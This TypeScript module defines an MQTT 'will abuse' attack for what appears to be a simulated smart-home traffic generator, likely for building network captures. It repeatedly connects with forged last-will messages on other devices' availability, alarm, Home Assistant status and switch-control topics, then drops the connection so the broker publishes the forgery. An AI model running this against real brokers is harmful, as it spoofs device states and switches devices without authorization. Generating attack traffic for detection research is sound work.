// Wills as a way to speak.

import type { Attack } from '../attacker.js'
import { connectPacket } from '../packets.js'

/** Wills as a way to speak. */
export const willAbuse: Attack = {
  name: 'will-abuse',
  summary:
    "will abuse: 3 to 5 addresses connect with a will for somebody else's topic and break the connection, some 8 times a second each",
  attackers: [3, 5],
  async run(attacker) {
    const {
      chance,
      scene: { home }
    } = attacker
    // Mostly what others look at; one lamp is switched, too. What devices do in answer is benign, and should not be
    // half of the capture.
    const topics = [
      ...home.namesOf('switch').map(name => `${home.base}/${name}/availability`),
      ...home.namesOf('tasmota').map(name => `tele/${name}/LWT`),
      `${home.base}/alarm`,
      'homeassistant/status',
      `${home.base}/${home.namesOf('switch')[0]}/set`
    ]
    for (let tries = 0; tries < 500 && !attacker.over; tries++) {
      const socket = await attacker.connect()
      if (socket === null) return
      const clientId = chance.text(12)
      const will = {
        topic: chance.oneOf(topics),
        payload: chance.oneOf(['ON', 'OFF', 'offline', 'Offline', chance.text(chance.whole(10, 400))]),
        qos: chance.oneOf([0, 1, 2] as const),
        retain: chance.happens(0.5)
      }
      attacker.note(clientId, will.topic, will.payload)
      await attacker.send(socket, connectPacket({ clientId, keepalive: chance.whole(1, 60), will }))
      await attacker.pause(chance.between(20, 120))
      socket.resetAndDestroy()
      await attacker.pause(chance.between(10, 100))
    }
  }
}
